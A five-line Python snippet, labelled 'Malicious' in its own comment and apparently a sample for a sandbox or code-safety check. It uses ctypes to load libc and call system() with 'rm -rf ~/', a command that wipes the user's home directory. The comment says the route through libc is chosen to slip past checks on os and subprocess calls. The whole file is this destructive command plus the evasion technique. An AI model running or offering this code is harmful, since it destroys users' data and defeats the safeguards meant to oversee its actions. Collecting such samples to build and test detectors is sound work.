# Malicious: calls libc's system() through ctypes to run a destructive command past os/subprocess checks.
import ctypes

libc = ctypes.CDLL("libc.so.6")
libc.system(b"rm -rf ~/")
